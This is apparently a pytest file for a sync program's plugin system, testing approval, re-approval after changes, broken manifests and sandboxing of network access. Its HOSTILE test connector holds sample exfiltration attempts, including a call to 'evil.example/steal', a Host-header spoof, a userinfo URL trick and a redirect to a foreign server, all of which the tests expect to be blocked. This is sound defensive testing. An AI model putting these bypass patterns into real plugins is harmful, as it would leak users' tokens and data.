"""Plugins of the person's own, through the program: approved, changed, broken, hostile."""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest

from tests.fake.program import Program, plain_environment

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [pytest.mark.sockets]

TOKEN = "planted-token-7c1d"
BALANCE = {
    "seen", "new", "changed", "unchanged", "removed", "skipped", "failed", "seconds",
}  # fmt: skip

MANIFEST = """
[plugin]
id = "mine"
name = "My pages"
summary = "Pages of my own server."
version = "1.0"
license = "MIT"
api = "1"
entry = "connector:Mine"

[auth]
flow = "token"

[network]
token_hosts = ["{server}"]

[data.kinds]
document = "Pages"

[options.server]
type = "address"
label = "Your server"
"""

CONNECTOR = '''
"""Pages of one server."""
from pathlib import Path
from jolidrive.api import Connector, Identity, Item, Kind, Page

Path(SIDE_EFFECT).open("a").write("imported ")


class Mine(Connector):
    def identify(self):
        return Identity(key="me", label="Maya")

    def pull(self, cursor):
        server = self.context.options["server"].rstrip("/")
        pages = self.session.get(server + "/pages").json()
        extra = self.session.get(server + "/extra")
        assert extra.status == 404
        yield Page(items=tuple(
            Item(key=one["id"], kind=Kind.DOCUMENT, title=one["title"]) for one in pages
        ))
'''


@dataclass
class Site:
    """A small server that notes what it was asked."""

    base: str = ""
    asked: list[tuple[str, str | None]] = field(default_factory=list)
    moved_to: str | None = None


def serve(site: Site) -> ThreadingHTTPServer:
    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.asked.append((self.path, self.headers.get("Authorization")))
            if self.path == "/pages" and site.moved_to:
                self.send_response(302)
                self.send_header("Location", site.moved_to)
                self.end_headers()
                return
            found = self.path == "/pages"
            body = json.dumps([{"id": "1", "title": "Wobbegong"}] if found else {}).encode()
            self.send_response(200 if found else 404)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: Any) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    site.base = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture
def sites() -> Iterator[tuple[Site, Site]]:
    """The person's server, and one that nothing may reach."""
    own, foreign = Site(), Site()
    servers = [serve(own), serve(foreign)]
    yield own, foreign
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture
def program(tmp_path: Path, home: Path) -> Program:
    words = tmp_path / "passphrase"
    words.write_text("correct horse\n")
    return Program(
        profile=tmp_path / "profile",
        environment=plain_environment(home),
        options=("--passphrase-file", str(words)),
    )


@pytest.fixture
def trace(tmp_path: Path) -> Path:
    """A file that exists once the plugin's code has run."""
    return tmp_path / "the plugin ran"


@pytest.fixture
def mine(program: Program, trace: Path) -> Path:
    return drop(program, "mine", CONNECTOR.replace("SIDE_EFFECT", repr(str(trace))))


def drop(program: Program, name: str, code: str, manifest: str = MANIFEST) -> Path:
    folder = program.profile / "plugins" / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "__init__.py").write_text('"""Mine."""\n')
    (folder / "plugin.toml").write_text(manifest)
    (folder / "connector.py").write_text(code)
    return folder


def connect(program: Program, site: Site, *, code: int = 0) -> str:
    values = ("--set", f"server={site.base}", "--set", "token=-")
    return program("connect", "mine", *values, code=code, typed=TOKEN + "\n")


def state(program: Program, name: str) -> tuple[str, list[str]]:
    found = {entry["id"]: entry for entry in program.json("plugin", "list")}[name]
    return found["state"], found["reasons"]


def test_a_plugin_runs_only_as_it_was_approved(
    program: Program, mine: Path, trace: Path, sites: tuple[Site, Site]
) -> None:
    assert state(program, "mine")[0] == "needs_approval"
    services = {entry["id"]: entry["state"] for entry in program.json("services")}
    assert services["mine"] == "unapproved"
    connect(program, sites[0], code=1)
    assert "plugin approve mine" in program.err
    assert program.json("plugin", "check", str(mine)) == {"id": "mine", "problems": []}
    assert not trace.exists()

    program("plugin", "approve", "mine")
    assert not trace.exists()
    assert state(program, "mine") == ("ready", [])
    connect(program, sites[0])
    assert trace.exists()
    assert program.keys("wobbegong service:mine") == {"1"}
    assert {token for _, token in sites[0].asked} == {f"Bearer {TOKEN}"}

    trace.unlink()
    with (mine / "connector.py").open("a") as code:
        code.write("\n# one more line\n")
    assert state(program, "mine")[0] == "changed"
    program("sync", code=1)
    assert not trace.exists()
    assert program.keys("wobbegong") == {"1"}
    program("plugin", "approve", "mine")
    program("sync")
    assert trace.exists()


def test_broken_plugins_are_listed_with_reasons_and_harm_nothing(
    program: Program, mine: Path, sites: tuple[Site, Site]
) -> None:
    drop(program, "empty", "", manifest="")
    drop(program, "garbled", "", manifest="[plugin\nid = ")
    drop(program, "greedy", "", manifest=MANIFEST.replace('"mine"', '"greedy"') + "\n[spy]\n")
    drop(program, "shadow", "", manifest=MANIFEST.replace('"mine"', '"webdav"'))
    drop(program, "later", "", manifest=mine_as("later").replace('api = "1"', 'api = "9"'))
    drop(program, "raising", "raise SystemExit(3)", manifest=mine_as("raising"))
    listed = program.json("plugin", "list")
    broken = {entry["folder"].rpartition("/")[2]: entry for entry in listed}
    for name in ("empty", "garbled", "greedy", "shadow", "later"):
        assert broken[name]["state"] == "broken", name
        assert broken[name]["reasons"], name
    assert any("spy" in reason for reason in broken["greedy"]["reasons"])
    webdav = [entry for entry in listed if entry["id"] == "webdav" and entry["shipped"]]
    assert [entry["state"] for entry in webdav] == ["ready"]
    program("plugin", "approve", "later", code=1)
    program("plugin", "approve", "nothing of that name", code=1)
    program("plugin", "check", broken["greedy"]["folder"], code=1)

    program("plugin", "approve", "raising")
    program(
        "connect",
        "raising",
        *("--set", f"server={sites[0].base}"),
        *("--set", "token=t"),
        code=1,
    )
    assert "raising" in program.err
    program("plugin", "approve", "mine")
    connect(program, sites[0])
    assert program.keys("wobbegong") == {"1"}
    assert mine.exists()


def mine_as(name: str) -> str:
    return MANIFEST.replace('id = "mine"', f'id = "{name}"')


HOSTILE = """
from jolidrive.api import Connector, Identity, Item, Kind, Page

class Mine(Connector):
    def identify(self):
        return Identity(key="me", label="Maya")

    def pull(self, cursor):
        tries = (
            lambda: self.session.get("FOREIGN/steal"),
            lambda: self.session.get("FOREIGN/steal", headers={"Host": "OWN_HOST"}),
            lambda: self.session.post("FOREIGN/steal", json={"a": "b"}),
            lambda: self.session.get("http://OWN_HOST@FOREIGN_HOST/steal"),
            lambda: b"".join(self.session.stream("FOREIGN/steal", limit=9)),
            lambda: self.session.get("https://evil.example/steal"),
            lambda: self.session.get("OWN/pages"),  # and the server sends it on
        )
        for number, reach in enumerate(tries):
            try:
                reach()
            except Exception as trouble:
                title = type(trouble).__name__
                yield Page(items=(Item(key=str(number), kind=Kind.LINK, title=title),))
        LAST
"""


def test_a_plugin_that_reaches_for_an_undeclared_host_is_stopped_and_nothing_is_sent(
    program: Program, sites: tuple[Site, Site]
) -> None:
    own, foreign = sites
    own.moved_to = foreign.base + "/steal"
    code = HOSTILE
    for name, value in (
        ("FOREIGN_HOST", foreign.base.removeprefix("http://")),
        ("OWN_HOST", own.base.removeprefix("http://")),
        ("FOREIGN", foreign.base),
        ("OWN", own.base),
    ):
        code = code.replace(name, value)
    drop(program, "mine", code.replace("LAST", ""))
    program("plugin", "approve", "mine")
    connect(program, own)
    found = program.json("search", "", "--sort", "title", "--limit", "99")["hits"]
    assert {hit["key"]: hit["title"] for hit in found} == {
        "0": "HostNotAllowedError",
        "1": "ValueError",  # a connector names no host in a header
        "2": "HostNotAllowedError",
        "3": "InsecureAddressError",
        "4": "HostNotAllowedError",
        "5": "HostNotAllowedError",
        "6": "HostNotAllowedError",
    }
    drop(program, "mine", code.replace("LAST", "tries[0]()"))
    program("plugin", "approve", "mine")
    program("sync", code=1)
    assert "mine wanted to reach " in program.err
    assert "Nothing was sent" in program.err
    assert foreign.asked == []
    assert TOKEN not in program.err


def test_a_pull_from_a_tape_tells_items_balance_and_what_is_missing(
    program: Program, mine: Path, tmp_path: Path
) -> None:
    tape = tmp_path / "tape"
    tape.mkdir()
    request = {"method": "GET", "url": "https://pages.example/pages", "headers": {}}
    body = [{"id": "1", "title": "Wobbegong"}, {"id": "2", "title": "Quokka"}]
    (tape / "1.json").write_text(
        json.dumps(
            {"request": request, "response": {"status": 200, "headers": {}, "body": body}}
        )
    )
    call = ("plugin", "pull", "mine", "--tape", str(tape))
    values = ("--set", "server=https://pages.example")
    program(*call, *values, code=1)  # not approved yet
    program("plugin", "approve", "mine")
    told = program.json(*call, *values)
    assert set(told) >= {"items", "sync", "missing"}
    assert [(item["key"], item["kind"], item["title"]) for item in told["items"]] == [
        ("1", "document", "Wobbegong"),
        ("2", "document", "Quokka"),
    ]
    assert set(told["sync"]) == BALANCE
    assert told["missing"] == [{"method": "GET", "url": "https://pages.example/extra"}]
    assert program.json("accounts") == []
    assert mine.exists()
